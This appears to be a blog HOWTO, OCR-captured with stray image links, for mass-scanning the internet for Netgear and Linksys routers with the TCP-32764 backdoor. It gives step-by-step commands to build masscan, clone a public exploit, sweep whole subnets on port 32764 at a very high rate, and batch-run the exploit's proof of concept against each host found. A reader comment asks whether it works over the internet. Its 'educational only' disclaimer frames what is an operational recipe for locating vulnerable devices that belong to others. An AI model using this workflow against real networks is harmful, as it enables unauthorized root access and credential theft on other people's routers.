[HOWTO] Searching the internet for the TCP-32764 netgear exploit

This is a backdoor from last month. You can find it in GitHub.
Here, i’ll describe a quick and dirty way to search the internet for this exploit.

This exploit allows complete control of the affected host. You can download/upload files, get a root shell, PPPoE credentials, admin password, etc.

The idea was originally posted here, however, the post didn’t described how to do it. So, i’ll post a very quick post on how to do it.

DISCLAIMER: educational purposes only. Use at your own risk. I only wrote the minimalist bash script and the how to.

Some more info from the author of the exploit.

Probable source of the backdoor:

Backdoor LISTENING ON THE INTERNET confirmed in :• Linksys WAG120N (@p_w999)
  • Netgear DG834B V5.01.14(@domainzero)
  • Netgear DGN2000 1.1.1,,,, (issue 44)
  • Netgear WPNT834 (issue 79)
  • OpenWAG200 maybe a little bit TOO open 😉 (issue 49)

Backdoor confirmed in:

Backdoor may be present in:

  1. Get masscan from git hub.
    1. cd ~
    2. git clone https://github.com/robertdavidgraham/masscan.git
    3. cd masscan
    4. make
  2. Get the exploit
    1. cd ~
    2. git clone https://github.com/elvanderb/TCP-32764.git
  3. Search a subnet for the exploit, and export the stdout to a file, for instance, for file out.2 and subnet
    1. ./masscan -oL out.2 -p32764 –rate=10000000
    2. Run the desired subnets and output to different files. Then merge them with cat out.1 out.2 out.3 > out
    3. Strip the ip’s out with # cut -d’ ‘ -f4out > ip_list
  4. Create the script to batch the output (see at the bottom),
  5. Put the poc.py and ip_list in the same directory as the script
  6. chmod +x run.sh
  7. run the script
  8. profit

while read p;do
 ./poc.py --is_vuln --ip $p
sleep 3done < ip_list

One thought on “[HOWTO] Searching the internet for the TCP-32764 netgear exploit”

  1. Can this run form theinternet or do you have to be connected to the network the router is on?

Leave a Reply

Your email address will not be published. Required fields are marked *